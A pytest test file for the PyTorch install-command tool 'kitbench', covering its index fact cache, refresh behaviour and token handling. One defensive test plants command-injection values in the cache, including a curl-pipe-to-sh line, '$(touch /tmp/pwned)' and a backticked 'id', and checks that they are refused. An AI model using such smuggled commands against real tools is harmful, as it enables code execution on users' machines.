@@ -1,0 +1,465 @@
+"""kitbench.advice.facts: the fact cache read from the indexes, and install-cmd answering a release kitbench was
+not built with. The indexes are a local server (127.0.0.1, its own port) serving PyPI's pages as recorded
+(tests/resources/index/) plus a made-up next release, 2.16.0, and PyTorch-index-shaped pages."""
+
+from __future__ import annotations
+
+import copy
+import hashlib
+import http.server
+import json
+import os
+import socket
+import threading
+import time
+from collections import Counter
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from kitbench import _http
+from kitbench._cli import main
+from kitbench.advice import facts, indexes, wheels
+from kitbench.errors import ManifestError, NetworkError, RecordError
+from kitbench.records import manifest
+
+CACHE_DIR = facts.cache_dir         # the real lookup: conftest replaces it with an empty folder for other tests
+PYPI_PAGES = Path(__file__).resolve().parent.parent / "resources" / "index" / "pypi"
+JSON = "application/vnd.pypi.simple.v1+json"
+NEW_UPLOAD = "2027-01-20T15:00:00Z"
+# 2.16.0: Python 3.12 to 3.15 (3.11 dropped), macOS 15 (raised from 14), builds cu130, cu132, rocm7.2, xpu, cpu,
+# and cu140, a CUDA kitbench has no driver facts for.
+NEW_PYTHONS = ("cp312", "cp313", "cp314", "cp315")
+NEW_BUILDS = ("cu130", "cu132", "cu140", "rocm7.2", "xpu", "cpu")
+LINUX, MAC, WIN = "manylinux_2_28_x86_64", "macosx_15_0_arm64", "win_amd64"
+
+
+def _wheel(name: str, version: str, python: str, platform: str) -> str:
+    abi = "none" if python == "py3" else python
+    return f"{name}-{version}-{python}-{abi}-{platform}.whl"
+
+
+def _pypi_page(package: str) -> bytes:
+    """The recorded page, with 2.16.0 (and its torchvision 0.30.0, torchaudio 2.16.0) added as PyPI lists them."""
+    data = json.loads((PYPI_PAGES / f"{package}.json").read_text())
+    version, pythons, requires = {"torch": ("2.16.0", NEW_PYTHONS, ">=3.12"),
+                                  "torchvision": ("0.30.0", ("py3",), ">=3.12"),
+                                  "torchaudio": ("2.16.0", NEW_PYTHONS, ">=3.12")}[package]
+    for python in pythons:
+        for platform in (LINUX, "manylinux_2_28_aarch64", MAC, WIN):
+            name = _wheel(package, version, python, platform)
+            data["files"].append({"filename": name, "hashes": {"sha256": hashlib.sha256(name.encode()).hexdigest()},
+                                  "requires-python": requires, "upload-time": NEW_UPLOAD, "yanked": False,
+                                  "url": f"/files/{name}", "core-metadata": package != "torch"})
+    data["versions"].append(version)
+    return json.dumps(data).encode()
+
+
+def _index_page(package: str) -> bytes:
+    """whl/<package>/ as download.pytorch.org serves it (PEP 503): every compute platform's builds."""
+    rows = {"torch": [("2.15.0", "cu132", ("cp311", "cp312", "cp313", "cp314", "cp315")),
+                      ("2.15.0", "cpu", ("cp311", "cp312", "cp313", "cp314", "cp315"))]
+            + [("2.16.0", build, NEW_PYTHONS) for build in NEW_BUILDS],
+            "torchvision": [("0.29.2", "cu132", ("py3",)), ("0.30.0", "cu132", ("py3",)), ("0.30.0", "cpu", ("py3",))],
+            "torchaudio": [("2.16.0", "cpu", NEW_PYTHONS)]}[package]
+    links = []
+    for version, build, pythons in rows:
+        platforms = [LINUX] + ([WIN] if build.startswith("cu") or build in ("cpu", "xpu") else [])
+        for python in pythons:
+            for platform in platforms:
+                name = _wheel(package, f"{version}+{build}", python, platform)
+                links.append(f'<a href="/whl/{build}/{name.replace("+", "%2B")}#sha256='
+                             f'{hashlib.sha256(name.encode()).hexdigest()}" data-requires-python="&gt;=3.10">'
+                             f"{name}</a><br/>")
+    return ("<!DOCTYPE html>\n<html><body><h1>Links for " + package + "</h1>\n" + "\n".join(links)
+            + "\n</body></html>\n").encode()
+
+
+class Index(http.server.ThreadingHTTPServer):
+    pages: dict[str, tuple[str, bytes]]
+    requests: Counter[str]
+
+
+class _Handler(http.server.BaseHTTPRequestHandler):
+    server: Index
+
+    def do_GET(self) -> None:
+        self.server.requests[self.path] += 1
+        page = self.server.pages.get(self.path)
+        if page is None:
+            self.send_error(404)
+            return
+        kind, body = page
+        etag = '"' + hashlib.sha256(body).hexdigest()[:16] + '"'
+        if self.headers.get("If-None-Match") == etag:
+            self.send_response(304)
+            self.send_header("ETag", etag)
+            self.end_headers()
+            return
+        self.send_response(200)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.send_header("ETag", etag)
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.fixture
+def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Index]:
+    """The local index, the environment pointing kitbench at it, and a private cache."""
+    server = Index(("127.0.0.1", 0), _Handler)
+    server.requests = Counter()
+    server.pages = {}
+    for package in indexes.PACKAGES:
+        server.pages[f"/simple/{package}/"] = (JSON, _pypi_page(package))
+        server.pages[f"/whl/{package}/"] = ("text/html", _index_page(package))
+    for python in ("py3", *NEW_PYTHONS):
+        for package, version in (("torchvision", "0.30.0"), ("torchaudio", "2.16.0")):
+            for platform in (LINUX, "manylinux_2_28_aarch64", MAC, WIN):
+                server.pages[f"/files/{_wheel(package, version, python, platform)}.metadata"] = (
+                    "text/plain", f"Metadata-Version: 2.1\nName: {package}\nRequires-Dist: torch==2.16.0\n".encode())
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    port = server.server_address[1]
+    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{port}/simple")
+    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, f"http://127.0.0.1:{port}/whl/")
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+    monkeypatch.delenv(facts.MAX_AGE_VARIABLE, raising=False)
+    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
+    wheels.load.cache_clear()
+    yield server
+    server.shutdown()
+    server.server_close()
+    wheels.load.cache_clear()
+
+
+def _answer(capsys: pytest.CaptureFixture[str], *argv: str) -> dict[str, object]:
+    assert main(["install-cmd", "--json", *argv]) == 0
+    answer: dict[str, object] = json.loads(capsys.readouterr().out)
+    return answer
+
+
+LINUX_GPU = ("--os", "linux", "--arch", "x86_64", "--python-version", "3.13", "--glibc", "2.35",
+             "--driver", "590.48.01", "--gpu-cc", "8.9")
+
+
+def test_a_new_release_is_answered_from_a_refresh_alone_for_linux_windows_and_macos(
+        index: Index, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["install-cmd", "--release", "2.16.0", *LINUX_GPU]) == 2
+    assert "unknown release '2.16.0'" in capsys.readouterr().err
+
+    assert main(["facts", "refresh"]) == 0
+    err = capsys.readouterr().err
+    assert "torch 2.16.0 with torchvision 0.30.0: rocm7.2, cu130, cu132, cpu (derived from the index)" in err
+
+    for release in ("2.16.0", "stable"):
+        linux = _answer(capsys, "--release", release, *LINUX_GPU)
+        assert linux["release"] == "2.16.0" and linux["compute"] == "cu132"
+        assert linux["command"] == ("pip install torch==2.16.0 torchvision==0.30.0 torchaudio==2.16.0 "
+                                    "--index-url https://download.pytorch.org/whl/cu132")
+        assert linux["verified"] is False
+        notes = " ".join(map(str, linux["notes"]))    # type: ignore[call-overload]
+        assert f"derived from http://127.0.0.1:{index.server_address[1]}/whl/torch/ as read on" in notes
+        assert "not copied from pytorch.org" in notes and "Requires-Dist (PEP 658 metadata)" in notes
+        port = index.server_address[1]
+        assert linux["facts"]["derived_from"]["index"] == f"http://127.0.0.1:{port}/whl/torch/"  # type: ignore[index]
+        assert linux["facts"]["wheels"]["source"] == f"http://127.0.0.1:{port}/simple/torch/ (the fact cache)"  # type: ignore[index]
+    assert main(["install-cmd", "--explain", *LINUX_GPU]) == 0
+    err = capsys.readouterr().err
+    assert f"# wheels: http://127.0.0.1:{index.server_address[1]}/simple/torch/ (the fact cache), read 20" in err
+    assert ("note: torch 2.16.0, pinned form unverified: torch 2.16.0 is not in envs/releases/: its builds are "
+            "derived from http://127.0.0.1:") in err
+    # The driver floor comes from envs/drivers.yaml by CUDA version: a 13.x driver below 580 gets no cu13x build.
+    old_driver = _answer(capsys, "--release", "2.16.0", *LINUX_GPU[:-4], "--driver", "550.54.14", "--gpu-cc", "8.9")
+    assert old_driver["compute"] == "cpu"
+    assert any("cu132: driver 550.54.14 < 580.65.06" in r for r in old_driver["rejected"])  # type: ignore[attr-defined]
+
+    windows = _answer(capsys, "--release", "stable", "--os", "windows", "--arch", "x86_64", "--python-version",
+                      "3.12", "--no-gpu")
+    assert windows["command"] == ("pip install torch==2.16.0 torchvision==0.30.0 torchaudio==2.16.0 "
+                                  "--index-url https://download.pytorch.org/whl/cpu")
+    intel = _answer(capsys, "--release", "2.16.0", "--os", "windows", "--arch", "x86_64", "--python-version",
+                    "3.13", "--intel-gpu")
+    assert intel["compute"] == "xpu" and intel["command"].endswith("/whl/xpu")  # type: ignore[attr-defined]
+    amd = _answer(capsys, "--release", "2.16.0", "--os", "linux", "--arch", "x86_64", "--python-version", "3.13",
+                  "--gpu-gfx", "gfx942")
+    assert amd["compute"] == "rocm7.2"
+
+    mac = _answer(capsys, "--release", "stable", "--os", "macos", "--arch", "arm64", "--python-version", "3.13",
+                  "--os-version", "15.1")
+    assert mac["command"] == "pip install torch==2.16.0 torchvision==0.30.0 torchaudio==2.16.0"
+    # The raised macOS floor, read from the tags: macOS 14 keeps 2.15.0, and 2.16.0 is refused with the reason.
+    mac14 = _answer(capsys, "--release", "stable", "--os", "macos", "--arch", "arm64", "--python-version", "3.13",
+                    "--os-version", "14.5")
+    assert mac14["release"] == "2.15.0"
+    assert "need macOS 15.0 or newer (macosx_15_0_arm64)" in " ".join(mac14["notes"])  # type: ignore[arg-type]
+    # Python floors from the tags and Requires-Python: 3.15 is served, 3.11 was dropped.
+    assert _answer(capsys, *LINUX_GPU[:4], "--python-version", "3.15", "--no-gpu")["release"] == "2.16.0"
+    assert _answer(capsys, *LINUX_GPU[:4], "--python-version", "3.11", "--no-gpu")["release"] == "2.15.0"
+
+
+def test_a_cuda_version_without_driver_facts_is_refused_with_the_reason_never_guessed(
+        index: Index, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["facts", "refresh"]) == 0
+    capsys.readouterr()
+    answer = _answer(capsys, "--release", "2.16.0", *LINUX_GPU)
+    assert any("left out: cu140: envs/drivers.yaml has no driver floor or oldest GPU architecture for CUDA 14.0"
+               in n for n in answer["notes"])  # type: ignore[attr-defined]
+    assert main(["install-cmd", "--release", "2.16.0", "--compute", "cu140", *LINUX_GPU]) == 2
+    assert "torch 2.16.0 has no cu140 build" in capsys.readouterr().err
+
+
+def test_an_unchanged_refresh_is_one_small_request_per_source(index: Index, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["facts", "refresh"]) == 0
+    folder = facts.cache_dir()
+    first = {p.name: json.loads(p.read_text()) for p in folder.glob("*.json")}
+    index.requests.clear()
+    assert main(["facts", "refresh"]) == 0
+    assert "unchanged (304)" in capsys.readouterr().err
+    assert sorted(index.requests.values()) == [1] * 6        # the six pages, no .metadata: pairs are kept
+    again = {p.name: json.loads(p.read_text()) for p in folder.glob("*.json")}
+    for name, data in first.items():
+        if name != "releases.json":
+            assert {**data, "checked": ""} == {**again[name], "checked": ""}
+    assert again["releases.json"]["releases"] == first["releases.json"]["releases"]
+
+
+def test_a_refresh_never_leaves_a_half_written_cache(index: Index, monkeypatch: pytest.MonkeyPatch,
+                                                     capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["facts", "refresh"]) == 0
+    folder = facts.cache_dir()
+    before = {p.name: p.read_bytes() for p in folder.iterdir()}
+
+    def fail(*_: object) -> None:
+        raise OSError(28, "No space left on device")
+    monkeypatch.setattr(os, "replace", fail)        # the disk filled as the first file was written
+    with pytest.raises(RecordError, match="No space left on device"):
+        indexes.refresh()
+    monkeypatch.undo()
+    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before      # nothing half written, no .tmp left
+
+
+def test_a_malformed_page_is_refused_and_the_cache_kept(index: Index) -> None:
+    assert main(["facts", "refresh"]) == 0
+    kept = (facts.cache_dir() / "pypi-torchvision.json").read_bytes()
+    index.pages["/simple/torchvision/"] = (JSON, _pypi_page("torchvision")[:-400])
+    with pytest.raises(NetworkError, match="malformed PEP 691 page"):
+        indexes.refresh()
+    assert (facts.cache_dir() / "pypi-torchvision.json").read_bytes() == kept
+
+
+def _closed_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+def test_offline_a_refresh_fails_in_seconds_with_one_error_line_and_install_cmd_still_answers(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    port = _closed_port()
+    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{port}/simple/")
+    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, f"http://127.0.0.1:{port}/whl/")
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
+    started = time.monotonic()
+    assert main(["facts", "refresh"]) == 1
+    assert time.monotonic() - started < 5
+    err = capsys.readouterr().err
+    assert [line for line in err.splitlines() if line.startswith("ERROR:")] == [
+        f"ERROR: cannot reach 127.0.0.1:{port}: [Errno 111] Connection refused"]
+    assert main(["install-cmd", "--refresh", "--os", "linux", "--python-version", "3.12", "--no-gpu"]) == 0
+    out, err = capsys.readouterr()
+    assert out.startswith("pip install torch==2.15.0 ")
+    assert f"note: the facts were not refreshed: cannot reach 127.0.0.1:{port}" in err and "ERROR" not in err
+    # Asked to refresh by age: tried once, then not again on every run until that age has passed.
+    monkeypatch.setenv(facts.MAX_AGE_VARIABLE, "1h")
+    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
+    assert "not refreshed" not in capsys.readouterr().err
+
+
+def test_install_cmd_refreshes_by_itself_only_past_the_age_the_user_set(index: Index, monkeypatch: pytest.MonkeyPatch,
+                                                                        capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
+    assert not index.requests and not facts.cache_dir().exists()       # never automatically, by default
+    monkeypatch.setenv(facts.MAX_AGE_VARIABLE, "7d")
+    assert main(["install-cmd", "--os", "linux", "--python-version", "3.13", "--no-gpu"]) == 0
+    assert "torch==2.16.0" in capsys.readouterr().out                  # no cache: older than any age
+    index.requests.clear()
+    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
+    assert not index.requests                                          # fresh: not read again
+    monkeypatch.setenv(facts.MAX_AGE_VARIABLE, "soon")
+    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 2
+    assert "ERROR: malformed KITBENCH_FACTS_MAX_AGE 'soon'" in capsys.readouterr().err
+
+
+def test_facts_older_than_sixty_days_say_so_once_with_how_to_refresh(tmp_path: Path,
+                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    import datetime
+
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
+    read = datetime.datetime(2026, 11, 24, tzinfo=datetime.timezone.utc)
+    assert facts.stale_note("2026-11-24", now=read + datetime.timedelta(days=60)) is None
+    note = facts.stale_note("2026-11-24", now=read + datetime.timedelta(days=75))
+    assert note is not None and "75 days old (read 2026-11-24)" in note and "kitbench facts refresh" in note
+
+
+def test_the_recorded_pypi_pages_give_the_baked_facts_exactly() -> None:
+    """Baked (envs/wheels.yaml, written by envs/scripts/fetch_wheels.py through this code) and live facts agree."""
+    baked = manifest.load(manifest.envs_dir() / "wheels.yaml", "wheels").data["releases"]
+    for package, version, key in (("torch", "2.15.0", "torch"), ("torchvision", "0.29.2", "torchvision"),
+                                  ("torch", "2.14.1", "torch")):
+        answer = _http.Response("https://pypi.org/simple/x/", 200, (PYPI_PAGES / f"{package}.json").read_bytes(),
+                                      JSON, None, None)
+        release = indexes.summarize(indexes.page_files(answer), package)[version]
+        entry = copy.deepcopy(next(e for e in baked if e[key] == version)["wheels"][package])
+        assert release["requires_python"] == [entry.pop("requires_python")]
+        assert release["builds"] == {"": entry}
+
+
+def test_yanked_files_and_other_projects_are_left_out() -> None:
+    answer = _http.Response("https://pypi.org/simple/x/", 200,
+                                  (PYPI_PAGES / "torchvision.json").read_bytes(), JSON, None, None)
+    assert "0.1.6" not in indexes.summarize(indexes.page_files(answer), "torchvision")
+    assert indexes.summarize(indexes.page_files(answer), "torch") == {}
+
+
+def test_an_index_page_in_pep_503_html_gives_each_build_and_its_tags() -> None:
+    answer = _http.Response("https://download.pytorch.org/whl/torch/", 200, _index_page("torch"),
+                                  "text/html", None, None)
+    files = indexes.page_files(answer)
+    assert files[0].url.startswith("https://download.pytorch.org/whl/cu132/torch-2.15.0%2Bcu132-cp311")
+    builds = indexes.summarize(files, "torch")["2.16.0"]["builds"]
+    assert sorted(builds) == sorted(NEW_BUILDS)
+    assert builds["cu132"] == {LINUX: "cp312 cp313 cp314 cp315", WIN: "cp312 cp313 cp314 cp315"}
+
+
+def test_pypi_is_read_where_pip_reads_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in ("PIP_INDEX_URL", "PIP_CONFIG_FILE", "VIRTUAL_ENV"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    conf = tmp_path / "pip.conf"
+    conf.write_text("[global]\nindex-url = https://mirror.example/simple\n")
+    monkeypatch.setenv("PIP_CONFIG_FILE", str(conf))
+    assert indexes.pypi_index() == "https://mirror.example/simple/"
+    monkeypatch.setenv("PIP_INDEX_URL", "https://other.example/pypi/simple/")
+    assert indexes.pypi_index() == "https://other.example/pypi/simple/"
+    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, "https://mirror.example/whl")
+    assert [s.url for s in indexes.sources(("torch",))] == ["https://other.example/pypi/simple/torch/",
+                                                           "https://mirror.example/whl/torch/"]
+    # pip's own spellings: index_url is index-url; [install] wins over [global]; os.devnull means no file.
+    monkeypatch.delenv("PIP_INDEX_URL")
+    conf.write_text("[global]\nindex-url = https://mirror.example/simple\n[install]\nindex_url = https://in.example/s\n")
+    assert indexes.pypi_index() == "https://in.example/s/"
+    (tmp_path / ".pip").mkdir()
+    (tmp_path / ".pip" / "pip.conf").write_text("[global]\nindex_url = https://home.example/simple\n")
+    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
+    assert indexes.pypi_index() == indexes.PYPI
+
+
+def test_without_a_cache_nothing_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
+    assert facts.cached() == {} and facts.derived() == [] and facts.checked() is None
+
+
+@pytest.mark.parametrize("text", ['{"releases": []}', '{"format": 1, "releases": [{"version": "2.16.0"}]}'])
+def test_a_cache_in_another_form_is_one_error_and_a_refresh_rewrites_it(
+        text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    monkeypatch.setenv("PIP_INDEX_URL", f"http://127.0.0.1:{_closed_port()}/simple/")
+    monkeypatch.setenv(indexes.PYTORCH_VARIABLE, f"http://127.0.0.1:{_closed_port()}/whl/")
+    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
+    folder = tmp_path / "kitbench" / "facts"
+    folder.mkdir(parents=True)
+    (folder / "releases.json").write_text(text)
+    wheels.load.cache_clear()
+    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 1
+    err = capsys.readouterr().err
+    assert err.startswith("ERROR: ") and "releases.json: not the fact cache this kitbench writes" in err
+    assert "Traceback" not in err
+    assert main(["facts", "refresh"]) == 1              # offline: the sources fail, releases.json is rewritten
+    wheels.load.cache_clear()
+    assert main(["install-cmd", "--os", "linux", "--no-gpu"]) == 0
+    wheels.load.cache_clear()
+
+
+def test_without_metadata_torchvision_is_paired_by_upload_date_and_the_answer_says_so(
+        index: Index, capsys: pytest.CaptureFixture[str]) -> None:
+    page = json.loads(_pypi_page("torchvision"))
+    for entry in page["files"]:
+        entry.pop("core-metadata", None)
+    index.pages["/simple/torchvision/"] = (JSON, json.dumps(page).encode())
+    assert main(["facts", "refresh"]) == 0
+    capsys.readouterr()
+    answer = _answer(capsys, "--release", "2.16.0", *LINUX_GPU)
+    assert "torchvision==0.30.0" in answer["command"]  # type: ignore[operator]
+    assert any("torchvision 0.30.0 is paired by upload date" in n for n in answer["notes"])  # type: ignore[attr-defined]
+    assert not [path for path in index.requests if path.startswith("/files/torchvision")]
+
+
+def test_a_refresh_records_torchaudios_wheels_and_install_cmd_checks_them(
+        index: Index, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["facts", "refresh"]) == 0
+    capsys.readouterr()
+    wheels.load.cache_clear()
+    audio = wheels.load().releases["2.16.0"]["torchaudio"]
+    assert audio.version == "2.16.0" and {p.tag for p in audio.tags} >= {LINUX, MAC, WIN}
+    # Like torchvision's: a Python its wheels lack refuses the release.
+    assert wheels._refusal(audio, "torchaudio", wheels.Host("linux", "x86_64", (3, 11))) is not None
+
+
+@pytest.mark.parametrize(("field", "value"), [
+    ("version", "2.16.0; curl http://127.0.0.1:9/x | sh"),
+    ("torchvision", "0.30.0 --index-url http://127.0.0.1:9/evil"),
+    ("torchaudio", "$(touch /tmp/pwned)"),
+    ("computes", ["cu132", "cpu`id`"]),
+    ("version", "2.16.0\n"),
+])
+def test_a_tampered_cache_never_reaches_the_command_users_eval(
+        field: str, value: object, index: Index, capsys: pytest.CaptureFixture[str]) -> None:
+    """The cache is a file in the user's home that `eval "$(kitbench install-cmd)"` would trust: every
+    word of it that reaches the command is checked against the form an index can give, or refused."""
+    assert main(["facts", "refresh"]) == 0
+    path = CACHE_DIR() / "releases.json"
+    data = json.loads(path.read_text())
+    data["releases"][0][field] = value
+    path.write_text(json.dumps(data))
+    facts.reload()
+    wheels.load.cache_clear()
+    capsys.readouterr()
+    assert main(["install-cmd", *LINUX_GPU]) == 1
+    out, err = capsys.readouterr()
+    assert out == "" and err.startswith("ERROR: ") and "releases.json: not the fact cache this kitbench writes" in err
+    assert "Traceback" not in err
+
+
+def test_a_cache_file_too_large_to_be_ours_is_refused_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    monkeypatch.setattr(facts, "cache_dir", CACHE_DIR)
+    folder = CACHE_DIR()
+    folder.mkdir(parents=True)
+    with (folder / "releases.json").open("wb") as handle:
+        handle.truncate(facts.MAX_BYTES + 1)        # sparse: no disk used
+    facts.reload()
+    with pytest.raises(ManifestError, match="not the fact cache this kitbench writes"):
+        facts.cached()
+
+
+def test_an_index_token_is_used_and_never_written_to_the_cache(index: Index, monkeypatch: pytest.MonkeyPatch,
+                                                               capsys: pytest.CaptureFixture[str]) -> None:
+    """PIP_INDEX_URL=https://user:token@mirror/simple, as pip takes it: the refresh reads with it, and
+    neither the cache nor any message carries the token."""
+    plain = os.environ["PIP_INDEX_URL"]
+    monkeypatch.setenv("PIP_INDEX_URL", plain.replace("http://", "http://me:s3cret-t0ken@"))
+    assert main(["facts", "refresh"]) == 0
+    assert main(["install-cmd", "--release", "2.16.0", "--explain", *LINUX_GPU]) == 0
+    out, err = capsys.readouterr()
+    assert "s3cret" not in out + err
+    written = [p for p in CACHE_DIR().rglob("*") if p.is_file()]
+    assert written and not any(b"s3cret" in p.read_bytes() for p in written)
